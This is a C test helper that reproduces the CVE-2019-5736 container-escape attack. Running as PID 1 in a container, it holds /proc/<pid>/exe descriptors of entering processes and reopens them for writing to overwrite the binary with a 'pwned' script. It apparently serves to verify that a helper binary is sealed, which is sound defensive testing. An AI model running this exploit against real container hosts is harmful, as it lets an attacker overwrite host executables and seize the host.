/* CVE-2019-5736-style attacker for test/native/helper-sealed.test.ts.
 * Runs as PID 1 of a test container (refuses anything else), watches /proc
 * for processes entering the container, keeps /proc/<pid>/exe open, and
 * keeps trying to reopen those fds for writing once the process has
 * exec'd. Every open it gets is reported on stdout:
 *   ro <pid> <dev>:<ino>         /proc/<pid>/exe opened read-only
 *   writable <dev>:<ino> <result> reopened for writing; <result> of a write
 * It stops when /stop exists and prints "done scans=N". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 256

static int held[MAX_HELD];
static int nheld;
static int seen[65536];

int main(void) {
  if (getpid() != 1) {
    fprintf(stderr, "exe-attacker: refusing to run: not PID 1 of a container\n");
    return 2;
  }
  setvbuf(stdout, NULL, _IONBF, 0);
  struct stat own, shell;
  stat("/proc/self/exe", &own);
  if (stat("/bin/busybox", &shell) < 0) memset(&shell, 0, sizeof shell);
  printf("ready\n");
  long scans = 0;
  while (access("/stop", F_OK) < 0) {
    scans++;
    DIR *d = opendir("/proc");
    if (!d) return 3;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid >= 65536 || seen[pid]) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue; /* not dumpable, gone, or a kernel thread */
      seen[pid] = 1;
      struct stat st;
      fstat(fd, &st);
      printf("ro %d %lu:%lu\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
      if (st.st_ino == own.st_ino || st.st_ino == shell.st_ino || nheld >= MAX_HELD) {
        close(fd);
        continue;
      }
      held[nheld++] = fd;
    }
    closedir(d);
    for (int i = 0; i < nheld; i++) {
      if (held[i] < 0) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w < 0) continue; /* ETXTBSY while something runs it */
      struct stat st;
      fstat(w, &st);
      ssize_t n = pwrite(w, "#!/bin/sh\necho pwned\n", 21, 0);
      printf("writable %lu:%lu %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino,
             n == 21 ? "written" : strerror(errno));
      close(w);
      close(held[i]);
      held[i] = -1;
    }
  }
  printf("done scans=%ld\n", scans);
  return 0;
}
